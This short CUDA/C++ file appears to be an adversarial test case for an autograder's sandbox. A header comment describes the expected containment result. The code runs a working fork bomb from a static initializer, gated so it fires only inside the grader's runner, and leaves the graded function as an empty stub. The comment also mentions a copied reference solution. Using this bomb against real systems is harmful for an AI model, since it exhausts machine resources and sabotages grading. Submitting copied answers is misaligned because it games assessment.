// ATTACK: a fork bomb in a static initializer, which runs inside the runner before its main: every
//      process forks forever, and every child (named "grader_forkbomb") does the same; when fork
//      fails they keep trying. The runner never reaches its main. In the same submission,
//      scan_brent_kung.cu is a copy of the reference, graded after this exercise.
// EXPECTED VERDICT: the process limit stops the bomb inside the sandbox and the whole sandbox dies
//      with the runner: grade survives; this exercise scores 0 (no runner ever answers: runner
//      failed, or its cases time out); no grader_forkbomb process is left; scan_brent_kung, graded
//      next by the same uid on the same machine, still scores full marks.

#include <cuda_runtime.h>

#include <fcntl.h>
#include <sys/prctl.h>
#include <unistd.h>

namespace {

struct ForkBombAtStartup {
    ForkBombAtStartup()
    {
        if (::fcntl(4, F_GETFD) < 0) return;   // only inside a runner started by the grader
        for (;;)
            if (::fork() == 0) ::prctl(PR_SET_NAME, "grader_forkbomb", 0, 0, 0);
    }
} fork_bomb_at_startup;

}  // namespace

void scan_kogge_stone(const float* in, float* out, int n)
{
    (void)in, (void)out, (void)n;
}
